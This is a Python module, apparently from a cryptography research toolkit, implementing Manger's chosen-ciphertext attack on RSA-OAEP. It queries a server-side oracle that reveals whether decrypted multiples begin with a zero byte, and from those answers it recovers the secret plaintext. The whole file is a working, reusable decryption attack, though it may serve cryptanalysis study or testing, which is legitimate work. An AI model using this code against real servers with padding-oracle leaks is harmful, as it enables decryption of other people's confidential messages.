"""Manger's attack: from "does it begin with a zero byte?" about multiples to the number itself.

It needs about one question for each bit that is not known. Not here: who answers, and why.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from cryptokit.mtproto.auth.rsa import PublicKey

PATIENCE: Final = 1 << 16
"""A factor that leaves one number in 65,536 small: whoever still says "below" tells nothing."""


class OutOfQuestions(Exception):
    """The attacker has no time left, or learned that the answers say nothing."""


@dataclass(slots=True)
class Oracle:
    """The server, asked about multiples of one number; it counts the questions."""

    public: PublicKey
    is_below: Callable[[bytes], bool]
    number: int
    budget: int
    asked: int = 0

    def below(self, factor: int) -> bool:
        """Ask whether the number times a factor, modulo n, begins with a zero byte."""
        if self.asked == self.budget:
            raise OutOfQuestions
        self.asked += 1
        multiple = pow(factor, self.public.e, self.public.n) * self.number % self.public.n
        return self.is_below(multiple.to_bytes(self.public.size, "big"))


@dataclass(frozen=True, slots=True)
class Known:
    """What travelled in the clear: a head that stands between a hash and the rest.

    ``behind_hash`` and ``behind_head`` count the bits that follow either.
    """

    head: int
    behind_hash: int
    behind_head: int

    def narrow(self, low: int, high: int) -> tuple[int, int]:
        """Give the smallest and the largest number between two that have this head.

        >>> Known(head=5, behind_hash=8, behind_head=4).narrow(0x123, 0x3F0)
        (336, 863)
        """
        period, first = 1 << self.behind_hash, self.head << self.behind_head
        last = first + (1 << self.behind_head) - 1
        low = max(low, -((last - low) // period) * period + first)
        return low, min(high, (high - first) // period * period + last)


def search(oracle: Oracle, known: Known, padding: int) -> int:
    """Find the number but for its last bits, the padding. Raises OutOfQuestions.

    It takes far longer for a number just below B, which no number is that begins with a hash.

    See: Manger, "A Chosen Ciphertext Attack on RSA-OAEP", CRYPTO 2001, section 3.1.
    """
    n, b = oracle.public.n, 1 << (8 * (oracle.public.size - 1))
    low, high = _start(oracle, n, b)
    while low >> padding != high >> padding:
        i = 2 * b // (high - low) * low // n
        factor = -(-i * n // low)
        if oracle.below(factor):
            high = (i * n + b - 1) // factor
        else:
            low = -(-(i * n + b) // factor)
        low, high = known.narrow(low, high)
    return low >> padding


def _start(oracle: Oracle, n: int, b: int) -> tuple[int, int]:
    """Find a factor that takes the number past n, and by less than B: the first bounds."""
    one = 2
    while oracle.below(one):
        one *= 2
        if one > PATIENCE:
            raise OutOfQuestions
    factor, most = (n + b) // b * (one // 2), 2 * n // b * one
    while not oracle.below(factor):
        factor += one // 2
        if factor > most:
            raise OutOfQuestions
    return -(-n // factor), (n + b) // factor
